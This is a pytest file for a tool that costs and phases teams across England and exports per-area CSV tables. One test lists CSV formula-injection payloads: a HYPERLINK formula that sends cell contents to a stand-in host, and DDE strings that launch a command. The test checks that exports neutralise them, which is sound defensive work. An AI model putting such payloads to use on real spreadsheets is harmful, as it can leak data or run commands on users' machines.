"""Exports: per-area tables add up to England, CSVs are deterministic, nothing half-written."""

from __future__ import annotations

import dataclasses
import io
from pathlib import Path

import pandas as pd
import pytest
from synthetic import REGIONS, synthetic_country

from planner import costs, phasing, tables
from planner.config import (
    DEFAULT_SCENARIO_PATH,
    default_scenario,
    load_scenario,
    rescale_teams,
)
from planner.errors import PlannerError


def raises(func, *args, **kwargs) -> PlannerError:
    """The PlannerError that func(*args, **kwargs) raises."""
    with pytest.raises(PlannerError) as info:
        func(*args, **kwargs)
    return info.value


YEARS = ["2022/23", "2023/24", "2024/25", "2025/26"]


def build(scenario=None, regions=REGIONS):
    s = scenario or default_scenario()
    catch, areas, assignment = synthetic_country(regions)
    plan = phasing.assign_phasing(catch, areas, assignment, None, s)
    tc = costs.team_year_costs(plan.set_index("team_id")["wave"], s)
    plan = costs.attach_costs(plan, tc, s)
    national = costs.national_table(tc, s)
    return plan, tc, national, areas, assignment, s


@pytest.fixture(scope="module")
def built():
    return build()


@pytest.fixture(scope="module")
def exports(built):
    return tables.build_tables(*built)


def test_national_csv_is_the_proposal_table(exports) -> None:
    text = tables.to_csv_text(exports["national.csv"])
    lines = text.splitlines()
    assert lines[0] == "item,2022/23,2023/24,2024/25,2025/26,SR total"
    assert "Total,15204187,28126411,44505430,52798529,87836029" in lines
    assert "Training,443100,808763,1016505,334163,2268368" in lines
    assert "Children seen,8000,14750,23600,30300,46350" in lines
    assert "Teams operating fully from 1 April,40,80,135,202," in lines


@pytest.mark.parametrize("name", ["costs_by_icb.csv", "costs_by_lad.csv", "costs_by_region.csv"])
def test_area_tables_sum_to_national(exports, built, name) -> None:
    national = built[2].set_index("item")
    table = exports[name]
    assert list(table.columns) == tables.AREA_COLUMNS
    by_year = table.groupby("year")[
        ["teams_operating", "teams_starting", "labour", "training", "cost", "babies"]
    ].sum()
    for year in YEARS:
        full = national.at[costs.ROW_TEAMS_FULL, year]
        assert by_year.at[year, "teams_operating"] == pytest.approx(full, abs=1e-9)
        assert by_year.at[year, "teams_starting"] == pytest.approx(
            national.at[costs.ROW_TEAMS_STARTING, year], abs=1e-9
        )
        labour = (
            national.at[costs.ROW_LABOUR_FULL, year] + national.at[costs.ROW_LABOUR_STARTING, year]
        )
        assert by_year.at[year, "labour"] == pytest.approx(labour, abs=1e-6)
        assert by_year.at[year, "training"] == pytest.approx(
            national.at["Training", year], abs=1e-6
        )
        # everything but the national development programme, shown only in national.csv
        dev = national.at[costs.ROW_DEVELOPMENT, year]
        assert by_year.at[year, "cost"] == pytest.approx(national.at["Total", year] - dev, abs=1e-6)
        assert by_year.at[year, "babies"] == pytest.approx(national.at[costs.ROW_BABIES, year])
    # population and under-3s cover England once
    one_year = table[table["year"] == YEARS[0]]
    assert one_year["population"].sum() == built[3]["population"].sum()
    assert one_year["under3"].sum() == pytest.approx(built[3]["under3"].sum())
    assert one_year["teams_total"].sum() == pytest.approx(202)


def test_lad_split_by_population_share(exports, built) -> None:
    plan, tc, _, areas, assignment, _ = built
    lsoa = areas.merge(assignment, on="lsoa21cd")
    team = "Q00-2"  # LSOAs 3,4,5 of its ICB: district 00 has LSOA 3, district 01 has 4 and 5
    part = lsoa[lsoa["team_id"] == team]
    assert part["lad24cd"].nunique() == 2
    share = part.groupby("lad24cd")["population"].sum() / part["population"].sum()
    shares = tables.area_shares(plan, areas, assignment, "lad")
    got = shares[shares["team_id"] == team].set_index("area_code")["share"]
    assert got.to_dict() == pytest.approx(share.to_dict())
    lad = exports["costs_by_lad.csv"]
    row = lad[(lad["area_code"] == "E06000001") & (lad["year"] == "2025/26")].iloc[0]
    contributors = shares[shares["area_code"] == "E06000001"]
    cost = tc[tc["year"] == "2025/26"].set_index("team_id")["cost"]
    expected = sum(
        cost.get(t, 0.0) * s
        for t, s in zip(contributors["team_id"], contributors["share"], strict=True)
    )
    assert row["cost"] == pytest.approx(expected)
    assert row["babies_per_1000_under3"] == pytest.approx(row["babies"] * 1000 / row["under3"])
    assert row["population_per_team"] == pytest.approx(row["population"] / row["teams_total"])


def test_teams_csv(exports, built) -> None:
    teams = exports["teams.csv"]
    for col in [*phasing.PLAN_COLUMNS, "team_id", "name", "icb24cd", "nhser24cd", "population"]:
        assert col in teams.columns
    for year in YEARS:
        suffix = year.replace("/", "_")
        assert f"cost_{suffix}" in teams.columns and f"babies_{suffix}" in teams.columns
    assert "geometry" not in teams.columns
    assert list(teams["team_id"]) == sorted(teams["team_id"])
    text = tables.to_csv_text(teams)
    back = pd.read_csv(io.StringIO(text))
    assert list(back.columns) == list(teams.columns)  # no index column
    first = teams.iloc[0]
    assert f"{first['cost_2025_26']:.2f}" in text


def test_region_priorities(exports, built) -> None:
    plan = built[0]
    names = sorted(n for n in exports if n.startswith("region_"))
    assert names == [f"region_{c}_priorities.csv" for c in sorted(REGIONS)]
    for code, (_, k) in REGIONS.items():
        table = exports[f"region_{code}_priorities.csv"]
        assert list(table.columns) == tables.PRIORITY_COLUMNS
        assert list(table["rank"]) == list(range(1, k + 1))
        ranks = plan.set_index("team_id").loc[table["team_id"], "priority_rank"]
        assert ranks.is_monotonic_increasing
        assert table["wave"].iloc[0] == 1


def test_render_is_deterministic_and_licensed(built) -> None:
    files = tables.render_exports(tables.build_tables(*built), built[5])
    again = tables.render_exports(tables.build_tables(*built), built[5])
    assert files == again
    assert tables.LICENCE in files["README.txt"]
    assert "Open Government Licence v3.0" not in files["teams.csv"]
    for name, text in files.items():
        assert "\r" not in text, name
    lad = files["costs_by_lad.csv"].splitlines()
    assert lad[0] == ",".join(tables.AREA_COLUMNS)
    # fixed decimals: money to the penny, team-equivalents to 4 places
    cells = dict(zip(lad[0].split(","), lad[1].split(","), strict=True))
    assert len(cells["cost"].split(".")[1]) == 2 and len(cells["teams_total"].split(".")[1]) == 4


FORMULA_NOTES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3",
]


def test_formula_notes_are_neutralised(tmp_path: Path) -> None:
    """Notes from a readiness file reach teams.csv as inert text; numbers stay numbers."""
    s = default_scenario()
    catch, areas, assignment = synthetic_country()
    lads = sorted(areas["lad24cd"].unique())[: len(FORMULA_NOTES)]
    rows = [
        f'{lad},operating,"{note}"'
        for lad, note in zip(lads, [n.replace('"', '""') for n in FORMULA_NOTES], strict=True)
    ]
    path = tmp_path / "readiness.csv"
    path.write_text("area_code,readiness,note\n" + "\n".join(rows) + "\n", encoding="utf-8")
    ready = phasing.read_readiness(path, phasing.known_area_codes(areas))
    assert sorted(ready["note"]) == sorted(FORMULA_NOTES)
    plan = phasing.assign_phasing(catch, areas, assignment, ready, s)
    plan.loc[0, "name"] = "=1+2"  # a name or code is user text too
    tc = costs.team_year_costs(plan.set_index("team_id")["wave"], s)
    plan = costs.attach_costs(plan, tc, s)
    plan["deviation_pct"] = -2.5  # a negative number is a number, not text
    text = tables.to_csv_text(tables.teams_table(plan, tc, s))
    back = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    notes = set(back["readiness_note"]) - {""}
    assert notes == {"'" + n for n in FORMULA_NOTES}
    assert back.loc[0, "name"] == "'=1+2"
    assert set(back["deviation_pct"]) == {"-2.50"}
    for column in back.columns:
        for cell in back[column]:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            assert not cell.startswith("-") or column == "deviation_pct", (column, cell)


def test_neutralise_leaves_other_cells_alone() -> None:
    assert tables.neutralise("Leeds North") == "Leeds North"
    assert tables.neutralise("\rx") == "'\rx" and tables.neutralise("\t=1") == "'\t=1"
    assert tables.neutralise(-3) == -3 and tables.neutralise(-3.5) == -3.5
    assert tables.neutralise("'=already") == "'=already"


def test_fixed_formatting_rounds_half_up() -> None:
    assert tables._fixed(0.125, 2) == "0.13" and tables._fixed(2.5, 0) == "3"
    assert tables._fixed(-0.001, 2) == "0.00" and tables._fixed(float("nan"), 2) == ""


def test_write_exports(tmp_path: Path, built) -> None:
    out = tmp_path / "exports"
    paths = tables.write_exports(out, *built)
    names = sorted(p.name for p in out.iterdir())
    assert names == sorted(p.name for p in paths)
    assert {"teams.csv", "national.csv", "README.txt", "costs_by_lad.csv"} <= set(names)
    assert not any(n.startswith(".") for n in names)  # no temporary files left
    first = {p.name: p.read_bytes() for p in paths}
    tables.write_exports(out, *built)
    assert first == {p.name: p.read_bytes() for p in paths}


def test_failure_writes_nothing(tmp_path: Path, built) -> None:
    plan, *rest = built
    out = tmp_path / "exports"
    with pytest.raises(KeyError):
        tables.write_exports(out, plan.drop(columns=["nhser24cd"]), *rest)
    assert not out.exists()


def test_bad_inputs_stop_before_any_export(tmp_path: Path, built) -> None:
    """The pipeline's order: scenario, readiness, then exports — a bad file writes nothing."""
    out = tmp_path / "exports"
    bad_scenario = tmp_path / "s.toml"
    bad_scenario.write_text('[costs]\npay_growth = "lots"\n', encoding="utf-8")
    bad_ready = tmp_path / "r.csv"
    bad_ready.write_text("area_code,readiness\nE06000000,soon\n", encoding="utf-8")
    _, areas, _ = synthetic_country()

    def run(scenario_path: Path, readiness_path: Path) -> None:
        s = load_scenario(scenario_path)
        phasing.read_readiness(readiness_path, phasing.known_area_codes(areas))
        tables.write_exports(out, *built[:5], s)

    err = raises(run, bad_scenario, bad_ready)
    assert err.field == "costs.pay_growth" and err.value == "lots" and str(bad_scenario) in str(err)
    err = raises(run, DEFAULT_SCENARIO_PATH, bad_ready)
    assert err.row == 2 and err.field == "readiness" and err.value == "soon"
    assert not out.exists()


def test_summary_text(built) -> None:
    plan, _, national, *_ = built
    text = tables.summary_text(plan, national, built[5])
    assert "wave 1: 40 teams operating fully from 2022/23" in text
    assert "wave 4: 67 teams coming into operation during 2024/25" in text
    assert "£   15,204,187" in text and "£   87,836,029" in text
    assert "matches the proposal's published figures" in text


def test_changed_scenario_flows_through_tables() -> None:
    # 250,000 per team: more teams (here 226 in the synthetic country), waves scaled
    regions = dict(REGIONS)
    regions["E40000011"] = ("Midlands", 37 + 24)
    s = rescale_teams(default_scenario(), 226, population_per_team=250_000)
    plan, tc, national, areas, assignment, _ = build(s, regions)
    assert plan["wave"].value_counts().sort_index().tolist() == list(s.wave_sizes)
    exports = tables.build_tables(plan, tc, national, areas, assignment, s)
    shown = exports["national.csv"].set_index("item")
    assert shown.at[costs.ROW_TEAMS_FULL, "2025/26"] == 226
    region = exports["costs_by_region.csv"]
    total = region[region["year"] == "2024/25"]["cost"].sum()
    dev = national.set_index("item").at[costs.ROW_DEVELOPMENT, "2024/25"]
    assert total + dev == pytest.approx(national.set_index("item").at["Total", "2024/25"])
    assert plan[[f"cost_{y.replace('/', '_')}" for y in YEARS]].sum().sum() + 2_500_000 == (
        pytest.approx(national.set_index("item").loc["Total", YEARS].sum())
    )
    text = tables.summary_text(plan, national, s)
    assert "differs from the proposal" in text
    # more years: steady state columns appear everywhere
    s2 = dataclasses.replace(default_scenario(), years=(*YEARS, "2026/27"))
    plan2, tc2, nat2, areas2, assign2, _ = build(s2)
    ex2 = tables.build_tables(plan2, tc2, nat2, areas2, assign2, s2)
    assert "cost_2026_27" in ex2["teams.csv"].columns
    assert "2026/27" in set(ex2["costs_by_icb.csv"]["year"])
    assert ex2["national.csv"].set_index("item").at[costs.ROW_TEAMS_FULL, "2026/27"] == 202


# ----------------------------------------------------------------------------- real data


@pytest.mark.slow
def test_real_areas_through_exports(national_plan, mirror_dir: Path, tmp_path: Path) -> None:
    areas, catch, assignment = (
        national_plan.areas,
        national_plan.catchments,
        national_plan.assignment,
    )
    s = default_scenario()
    known = phasing.known_area_codes(areas, catch)
    ready = phasing.read_readiness(mirror_dir / "readiness/known_services_2019.csv", known)
    plan = phasing.assign_phasing(catch, areas, assignment, ready, s)
    tc = costs.team_year_costs(plan.set_index("team_id")["wave"], s)
    national = costs.national_table(tc, s)
    assert costs.proposal_mismatches(national, s) == []
    built = tables.build_tables(plan, tc, national, areas, assignment, s)
    nat = national.set_index("item")
    for name in ("costs_by_icb.csv", "costs_by_lad.csv", "costs_by_region.csv"):
        by_year = built[name].groupby("year")[["cost", "babies"]].sum()
        for year in YEARS:
            expected = nat.at["Total", year] - nat.at[costs.ROW_DEVELOPMENT, year]
            assert by_year.at[year, "cost"] == pytest.approx(expected, abs=1e-4), (name, year)
            assert by_year.at[year, "babies"] == pytest.approx(nat.at[costs.ROW_BABIES, year])
    assert len(built["costs_by_lad.csv"]["area_code"].unique()) == areas["lad24cd"].nunique()
    assert len([n for n in built if n.startswith("region_")]) == 7
    paths = tables.write_exports(tmp_path / "exports", plan, tc, national, areas, assignment, s)
    assert (tmp_path / "exports" / "national.csv").read_text().splitlines()[7] == (
        "Total,15204187,28126411,44505430,52798529,87836029"
    )
    assert len(paths) == 6 + 7
    leeds = plan[plan["rationale"].str.startswith("operating service in Leeds")]
    assert not leeds.empty and (leeds["readiness"] == "operating").all()
